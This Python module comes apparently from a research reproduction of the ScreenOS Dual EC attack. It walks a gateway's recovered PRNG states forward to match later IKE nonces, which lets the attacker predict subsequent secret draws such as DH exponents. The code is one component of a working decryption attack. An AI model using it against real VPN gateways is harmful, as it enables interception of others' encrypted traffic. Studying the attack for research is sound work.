"""Find a gateway's later nonce by walking forward from its latest known states (no sweep).

A gateway's nonces all come from one PRNG stream, so a nonce seen hours or
captures later is some number of ``prng_generate()`` calls after a state
recovered earlier.  :class:`ForwardWindow` walks each of a gateway's newest
known states (from the :class:`~kleptolab.attack.store.StateStore`, or
recovered earlier in this run) up to ``window`` calls ahead, lazily and at
most once, and looks the nonce up among those outputs.

The window is bounded: :data:`DEFAULT_WINDOW` = 2048 calls, about 0.45 s of
CPU on the project's 2-vCPU machine (about 0.2 ms per call), against about
2.6 s of CPU for one 2^16 sweep.  A ScreenOS 6.3 gateway spends a few calls per
connection (nonce, DH exponent, SPIs, IVs; CCS 2016 §4), so 2048 calls cover
hundreds of connections between two captures.  A gateway that drew more in
between (or rebooted: a new seed) costs one sweep, which starts a new epoch.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from kleptolab.attack.prng_walk import _walk
from kleptolab.attack.store import KnownState

__all__ = ["DEFAULT_WINDOW", "ForwardWindow", "Lineage"]

DEFAULT_WINDOW = 2048
_STRIDE = 64  # calls computed at a time, so an early hit stops the walk early
Point = tuple[int, int]


@dataclass
class _Chain:
    start: KnownState
    outputs: list[bytes] = field(default_factory=list)
    states: list[int] = field(default_factory=list)
    index: dict[bytes, int] = field(default_factory=dict)

    def extend(self, q: Point, count: int) -> None:
        state, previous = (
            (self.states[-1], self.outputs[-1])
            if self.outputs
            else (self.start.state, self.start.nonce)
        )
        more, more_states = _walk(state, q, count, previous)
        for value in more:
            self.index.setdefault(value, len(self.outputs))
            self.outputs.append(value)
        self.states += more_states


class ForwardWindow:
    """Lazily walked chains from a gateway's newest known states (``max_chains`` kept)."""

    def __init__(self, q: Point, window: int = DEFAULT_WINDOW, max_chains: int = 4) -> None:
        if window < 0:
            raise ValueError("the forward window must be >= 0 calls")
        if max_chains < 1:
            raise ValueError("max_chains must be at least 1")
        self.q = q
        self.window = window
        self.max_chains = max_chains
        self._chains: list[_Chain] = []  # newest last
        self.calls = 0  # prng_generate() calls computed so far (the window's cost)

    def add(self, start: KnownState) -> None:
        """Start a chain at ``start`` (the oldest chain is dropped beyond ``max_chains``)."""
        if any(c.start.state == start.state and c.start.nonce == start.nonce for c in self._chains):
            return
        self._chains.append(_Chain(start))
        del self._chains[: -self.max_chains]

    def find(self, nonce: bytes) -> tuple[KnownState, int, int, list[bytes], list[int]] | None:
        """``(start, offset, state after the nonce, later outputs, later states)`` or None.

        ``offset`` is 1-based (1 = the call right after ``start``'s nonce).  Chains are
        searched newest first; each is walked at most ``window`` calls, once.
        """
        for chain in reversed(self._chains):
            at = chain.index.get(nonce)
            while at is None and len(chain.outputs) < self.window:
                count = min(_STRIDE, self.window - len(chain.outputs))
                chain.extend(self.q, count)
                self.calls += count
                at = chain.index.get(nonce)
            if at is not None and chain.outputs[at] == nonce:
                return (
                    chain.start,
                    at + 1,
                    chain.states[at],
                    chain.outputs[at + 1 :],
                    chain.states[at + 1 :],
                )
        return None


class Lineage:
    """Where each recovered state sits in its gateway's draw sequence: ``(epoch, position)``.

    Epochs new in this run get negative ids (-1, -2, ...); the store maps them to
    real ids when the states are recorded.  ``known`` preloads positions from the store.
    """

    def __init__(self, known: dict[bytes, list[KnownState]] | None = None) -> None:
        self.positions: dict[tuple[bytes, int], tuple[int, int]] = {}
        for states in (known or {}).values():
            for k in states:
                self.positions[(k.nonce, k.state)] = (k.epoch, k.position)
        self._next = -1

    def new_epoch(self) -> int:
        """A fresh (negative) epoch id for a swept nonce."""
        self._next -= 1
        return self._next + 1

    def place(self, nonce: bytes, state: int, epoch: int, position: int) -> None:
        """Remember the first position found for a state."""
        self.positions.setdefault((nonce, state), (epoch, position))

    def of(self, nonce: bytes, state: int) -> tuple[int, int] | None:
        return self.positions.get((nonce, state))
